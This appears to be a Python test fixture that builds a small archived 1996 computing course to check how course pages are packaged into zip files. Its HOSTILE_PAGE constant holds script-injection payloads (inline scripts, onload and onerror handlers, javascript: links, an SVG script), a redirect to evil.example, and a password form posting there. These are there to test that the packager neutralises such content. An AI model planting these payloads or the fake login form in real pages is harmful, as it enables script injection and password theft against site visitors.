"""A small course with all that a package may meet: pages with and without a licence, files, a hostile page, what is not archived."""

from __future__ import annotations

import io
import zipfile

from trailmark.course.package.content import Archived, Content, package_content
from trailmark.course.package.manifest import Format, package_files
from trailmark.course.package.zip_file import write_zip
from trailmark.datatypes import Course, CourseItem, Response
from trailmark.settings import PackageSettings

HOME = "http://cs.example.edu/courses/101/"
LICENCE = '<p>This course is licensed under <a href="https://creativecommons.org/licenses/by/4.0/">CC BY</a>.</p>'
HOSTILE_PAGE = f"""<html><head><title>Sorting</title><script>window.top.broken = "script"</script>
<meta http-equiv="refresh" content="0;url=http://evil.example/"></head>
<body onload="window.top.broken='load'"><h1>Sorting</h1><img src="dot.png" onerror="window.top.broken='picture'">
<a href="javascript:window.top.broken='link'">go</a> <a href="l2.html#heaps">Heaps</a> <a href="/elsewhere.html">elsewhere</a>
<iframe src="javascript:window.top.broken='frame'"></iframe><svg onload="window.top.broken='svg'"><script>window.top.broken='svg'</script></svg>
<form action="http://evil.example/"><input name=password type=password><button>Log in</button></form>
{LICENCE}</body></html>"""
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(40)
PAGES = {
    "": ("text/html", f"<title>CS 101</title>{LICENCE}"),
    "l1.html": ("text/html", HOSTILE_PAGE),
    "l2.html": ("text/html", f'<title>Heaps</title><h2 id="heaps">Heaps</h2>{LICENCE}'),
    "private.html": ("text/html", f'<meta name="robots" content="noarchive">{LICENCE}<p>Mine.</p>'),
    "closed.html": ("text/html", "<p>All rights reserved.</p>"),
    "nc.html": (
        "text/html",
        '<a rel="license" href="http://creativecommons.org/licenses/by-nc-sa/3.0/us/">licence</a>',
    ),
    "notes.pdf": ("application/pdf", "%PDF-1.4 notes"),
    "prog.c": ("text/plain", "int main() { return 0; } /* <script>alert(1)</script> */"),
    "odd.svg": ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
}


def find(url: str) -> Archived | None:
    """What the archive of this world has."""
    name = url.partition("#")[0].removeprefix(HOME)
    if name == "dot.png":
        return Archived(Response(HOME + name, 200, (("Content-Type", "image/png"),), PICTURE), "1996-11-05")
    if name not in PAGES:
        return None
    kind, text = PAGES[name]
    return Archived(Response(HOME + name, 200, (("Content-Type", kind),), text.encode()), "1996-11-05")


def item(kind: str, title: str, name: str, position: int | None = None, place: int = 0) -> CourseItem:
    """An item that stands on the course's home."""
    return CourseItem(kind, title, name if ":" in name else HOME + name, position, page=HOME, place=place)


ITEMS = (
    item("assignment", "Homework 1", "http://else.example/hw1.ps", 1),
    item("lecture", "Heaps", "l2.html", 2),
    item("lecture", "Sorting", "l1.html", 1),
    item("lecture", "Where heaps are explained", "l2.html#heaps", 3),
    item("reading", "Notes", "notes.pdf"),
    item("software", "Program", "prog.c"),
    item("reading", "Private", "private.html"),
    item("reading", "Closed", "closed.html"),
    item("reading", "For schools", "nc.html"),
    item("reading", "Drawing", "odd.svg"),
    item("people", "Ada", "ada.html"),
    item("lecture", "Mail", "mailto:ada@cs.example.edu"),
)
COURSE = Course(HOME, "Introduction <to> Computing", "CS 101", "1996 autumn", ("Ada Lovelace",), "example.edu", ITEMS)


def content(course: Course = COURSE, **settings: object) -> Content:
    """The content of the course's package, with some settings changed."""
    return package_content(course, find, PackageSettings(**settings))  # type: ignore[arg-type]


def packed(form: Format, course: Course = COURSE, **settings: object) -> bytes:
    """The bytes of the course's package."""
    target = io.BytesIO()
    write_zip(package_files(content(course, **settings), form, PackageSettings(**settings)), target)  # type: ignore[arg-type]
    return target.getvalue()


def unpacked(body: bytes) -> dict[str, bytes]:
    """Path -> file of a package."""
    with zipfile.ZipFile(io.BytesIO(body)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}
